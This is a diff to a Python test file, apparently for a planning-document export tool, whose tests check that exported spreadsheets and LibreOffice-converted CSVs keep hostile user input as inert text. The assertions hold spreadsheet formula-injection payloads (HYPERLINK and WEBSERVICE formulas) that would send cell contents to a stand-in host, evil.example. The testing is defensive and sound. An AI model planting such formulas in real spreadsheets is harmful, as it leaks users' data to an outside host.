@@ -178,8 +178,9 @@ def test_xlsx_holds_every_user_text_as_text(hostile, jenis):
                     texts.append(c.value)
                     if evaluable(c.value):  # edited, it stays text: Excel's quote prefix
                         assert c.quotePrefix, (ws.title, c.coordinate, c.value)
-    # the payloads are there, as plain text, in the subtitle (a merged range) and the cells
-    assert any(v.startswith('=HYPERLINK("http://evil.example/?"&A5,"Klik")') for v in texts)
+    # the payloads are there, as plain text, in the subtitle (a merged range) or the form's own
+    # (upper-case) organisation line, and the cells
+    assert any(v.upper().startswith('=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&A5,"KLIK")') for v in texts)
     if jenis in ("matriks", "renstra", "iku"):  # the outcome (the Tujuan) is no PK row
         assert '=WEBSERVICE("http://evil.example/"&A1)' in texts
 
@@ -203,7 +204,7 @@ def test_libreoffice_evaluates_nothing(hostile, soffice, tmp_path):
     assert proc.returncode == 0, proc.stderr
     for j in JENIS:
         text = (tmp_path / f"{j}.csv").read_text(encoding="utf-8")
-        assert '=HYPERLINK(""http://evil.example/?""&A5,""Klik"")' in text, j  # the text, not "Klik"
+        assert '=HYPERLINK(""HTTP://EVIL.EXAMPLE/?""&A5,""KLIK"")' in text.upper(), j  # the text, not "Klik"
         assert "#NAME?" not in text and "Err:" not in text, j
     matriks = (tmp_path / "matriks.csv").read_text(encoding="utf-8")
     assert '=WEBSERVICE(""http://evil.example/""&A1)' in matriks and "-2+3" in matriks and "=1+1 tab" in matriks
